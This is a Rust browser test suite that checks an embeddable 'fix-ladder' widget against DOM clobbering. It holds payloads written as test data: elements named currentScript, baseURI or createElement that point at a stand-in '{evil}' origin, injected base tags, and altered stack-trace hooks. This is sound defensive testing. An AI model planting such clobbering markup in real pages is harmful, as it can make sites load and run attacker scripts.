//! What stands in a page under the names that scripts use: no byte from elsewhere runs for it, none is even asked
//! for, and the widget works, or its list.

use anyhow::{Context, Result, ensure};
use browser_tests::blog_and_cdn::{NONCE, Sites};
use browser_tests::runner::Test;
use browser_tests::{Page, tests};
use xtask::server::{self, Override, Server};

pub fn tests() -> Vec<Test> {
    tests![
        names_in_a_comment_keep_the_widget,
        names_in_a_comment_bring_no_foreign_list,
        names_in_a_form_around_it_stop_nothing,
        base_in_a_comment_moves_no_file,
        foreign_tag_names_no_address,
        svg_script_is_told_from_a_tag,
        stacks_of_errors_may_be_anything,
    ]
}

const TAG: &str =
    "<script src=/fix-ladder.js data-ladder=icloud-photos data-loading=eager></script>";
pub const ELEMENT: &str = "<fix-ladder ladder=icloud-photos loading=eager></fix-ladder>";
pub const NO_WASM: &str = "<script>delete window.WebAssembly</script>";

/// `{evil}` is another origin.
const COMMENTS: [&str; 10] = [
    "<img name=currentScript src={evil}/fix-ladder.js>",
    "<form name=currentScript><input name=src value={evil}/fix-ladder.js></form>",
    "<form name=currentScript action={evil}/fix-ladder.js><button name=src></button></form>",
    "<embed name=currentScript><object name=currentScript></object>",
    "<img name=currentScript><img name=currentScript>",
    "<iframe name=currentScript srcdoc=x></iframe>",
    "<svg><a id=currentScript href={evil}/fix-ladder.js></a></svg><img name=baseURI><img name=querySelectorAll>",
    "<img name=createElement><form name=createElementNS></form><img name=createTextNode><embed name=documentElement>",
    "<form name=addEventListener></form><img name=dispatchEvent id=dispatchEvent><iframe name=body srcdoc=x></iframe>\
     <img name=hasFocus><img name=activeElement><img name=visibilityState><img name=readyState>",
    "<form name=defaultView></form><img name=defaultView><img name=scripts><img name=head><img id=addEventListener name=implementation>",
];

/// Another origin, whose every script says that it has run, and would draw a list.
pub fn elsewhere() -> Result<Server> {
    let evil = server::start(server::Options::default())?;
    for path in ["/fix-ladder.js", "/fix-ladder.list.js", "/my-fix-ladder-stats.js"] {
        let headers = vec![("access-control-allow-origin".to_owned(), "*".to_owned())];
        let body = Some(b"window.foreign = true;".to_vec());
        evil.set(path, Override { headers, body, ..Override::default() });
    }
    Ok(evil)
}

/// What was asked of it besides pictures and the like: the files of the embed.
fn asked(evil: &Server) -> Vec<String> {
    let is_ours = |it: &String| {
        it.contains("fix-ladder.list") || it.contains(".wasm") || it.contains("/ladders/")
    };
    evil.requests().into_iter().filter(is_ours).collect()
}

pub async fn nothing_came(page: &Page, evil: &Server) -> Result<()> {
    ensure!(asked(evil).is_empty(), "asked for {:?}", asked(evil));
    let ran = page.run("return window.foreign || false", &[]).await?;
    ensure!(ran == false, "a script from elsewhere has run");
    Ok(())
}

pub async fn has_list(page: &Page) -> Result<()> {
    page.widget().until_state("failed").await?;
    ensure!(page.widget().count(".plain-list ol.rungs > li").await? > 0, "the list is there");
    Ok(())
}

async fn names_in_a_comment_keep_the_widget(page: &Page) -> Result<()> {
    let evil = elsewhere()?;
    for comment in COMMENTS {
        let seen = async {
            page.open_body(&format!("{}{TAG}", comment.replace("{evil}", &evil.url("")))).await?;
            let widget = page.widget();
            widget.ready().await?;
            // The driver itself is led astray by names.
            widget.click_by_script("[data-step=stuck-charger]").await?;
            widget.until("[data-step=stuck-charger]:checked").await?;
            let answer = "[data-rung=really-stuck] [data-action=not-fixed]";
            widget.click_by_script(answer).await?;
            widget.until_rung("restart", "open").await?;
            page.run("localStorage.clear()", &[]).await?;
            nothing_came(page, &evil).await?;
            page.ensure_no_errors().await
        };
        seen.await.with_context(|| comment.to_owned())?;
    }
    Ok(())
}

async fn names_in_a_comment_bring_no_foreign_list(page: &Page) -> Result<()> {
    let evil = elsewhere()?;
    for comment in COMMENTS {
        let comment = comment.replace("{evil}", &evil.url(""));
        // As a classic script, as one that comes late, and as a module, which is told nothing of its tag.
        for script in [
            TAG.to_owned(),
            format!("{ELEMENT}<script async src=/fix-ladder.js></script>"),
            format!("{ELEMENT}<script type=module src=/fix-ladder.js></script>"),
        ] {
            let seen = async {
                page.open_body(&format!("{NO_WASM}{comment}{script}")).await?;
                has_list(page).await?;
                nothing_came(page, &evil).await?;
                page.ensure_no_errors().await
            };
            seen.await.with_context(|| format!("{comment}{script}"))?;
        }
    }
    // What has the name of WebAssembly where there is none.
    page.open_body(&format!("{NO_WASM}<img name=WebAssembly id=WebAssembly>{TAG}")).await?;
    has_list(page).await?;
    let said = page.widget().text("[data-notice=failed]").await?;
    ensure!(said.starts_with("This browser cannot run the guided version here"), "{said}");
    Ok(())
}

/// Some servers put a form around the whole page: what has a name in it stands in that form as well.
async fn names_in_a_form_around_it_stop_nothing(page: &Page) -> Result<()> {
    for name in ["parentElement", "assignedSlot", "getAnimations", "getAttribute"] {
        page.open_body(&format!("<form lang=en>{TAG}<img name={name}><input name={name}></form>"))
            .await?;
        page.widget().ready().await.with_context(|| name.to_owned())?;
        page.paint(true).await?;
        page.ensure_no_errors().await?;
    }
    Ok(())
}

async fn base_in_a_comment_moves_no_file(page: &Page) -> Result<()> {
    let evil = elsewhere()?;
    let base = format!("<base href={}/>", evil.url(""));
    let inline = std::fs::read_to_string(xtask::dist_folder().join("fix-ladder.js"))?;
    for script in [
        "<script src=/fix-ladder.js></script>".to_owned(),
        format!("<script defer src={}></script>", page.server.url("/fix-ladder.js")),
        format!("<script>{inline}</script>"),
    ] {
        for (before, after) in [(base.as_str(), ""), ("", base.as_str())] {
            // Before a tag whose address is not whole, it is that address.
            if !before.is_empty() && script.contains("src=/") {
                continue;
            }
            let seen = async {
                page.open_body(&format!("{before}{ELEMENT}{script}{after}")).await?;
                page.widget().ready().await?;
                page.open_body(&format!("{NO_WASM}{before}{ELEMENT}{script}{after}")).await?;
                has_list(page).await?;
                nothing_came(page, &evil).await
            };
            seen.await.with_context(|| format!("{before} … {after}"))?;
        }
    }
    page.take_errors().await.map(drop)
}

async fn foreign_tag_names_no_address(page: &Page) -> Result<()> {
    let evil = elsewhere()?;
    let tags = [
        "<script type=text/template src={evil}/x/fix-ladder.js></script>",
        "<script type=application/json src={evil}/x/fix-ladder.js></script>",
        "<script nomodule src={evil}/x/fix-ladder.js></script>",
        "<script type=text/plain src={evil}/my-fix-ladder-stats.js></script>",
        "<svg><script type=text/plain href={evil}/x/fix-ladder.js src={evil}/x/fix-ladder.js></script></svg>",
    ];
    for tag in tags {
        let tag = tag.replace("{evil}", &evil.url(""));
        for script in [
            "<script type=module src=/fix-ladder.js></script>",
            "<script type=module>import('/fix-ladder.js')</script>",
        ] {
            for no_wasm in ["", NO_WASM] {
                let seen = async {
                    page.open_body(&format!("{no_wasm}{tag}{ELEMENT}{script}")).await?;
                    if no_wasm.is_empty() {
                        page.widget().ready().await?;
                    } else {
                        has_list(page).await?;
                    }
                    nothing_came(page, &evil).await
                };
                seen.await.with_context(|| format!("{no_wasm}{tag}{script}"))?;
            }
        }
    }
    page.ensure_no_errors().await
}

async fn svg_script_is_told_from_a_tag(page: &Page) -> Result<()> {
    let sites = Sites::new(page).await?;
    let script = "<svg><script nonce={nonce} href={cdn}/fix-ladder.js></script></svg>";
    sites.open(&[], &format!("{ELEMENT}{script}")).await?;
    page.widget().ready().await?;
    sites.open(&[], &format!("{NO_WASM}{ELEMENT}{script}")).await?;
    has_list(page).await?;
    let foreign = sites.blog.requests().iter().filter(|it| it.contains("/fix-ladder")).count();
    ensure!(foreign == 0, "its files are beside it, not beside the page");
    // A policy with a nonce: the list's tag has that of a module's.
    let policy = [("content-security-policy", "script-src 'nonce-{nonce}' 'wasm-unsafe-eval'")];
    let module = "<script nonce={nonce} type=module src={cdn}/fix-ladder.js></script>";
    let no_wasm = NO_WASM.replace("<script", &format!("<script nonce={NONCE}"));
    sites.open(&policy, &format!("{no_wasm}{ELEMENT}{module}")).await?;
    has_list(page).await?;
    ensure!(sites.refused().await?.is_empty(), "{:?}", sites.refused().await?);
    page.ensure_no_errors().await
}

/// Some scripts make something else of them, or none: then the tag counts.
async fn stacks_of_errors_may_be_anything(page: &Page) -> Result<()> {
    for strange in [
        "Error.stackTraceLimit = 0",
        "Error.prepareStackTrace = (_, places) => places",
        "Error.prepareStackTrace = () => 7",
        "Error.prepareStackTrace = () => null",
    ] {
        page.open_body(&format!("<script>{strange}</script>{TAG}")).await?;
        page.widget().ready().await.with_context(|| strange.to_owned())?;
    }
    page.ensure_no_errors().await
}
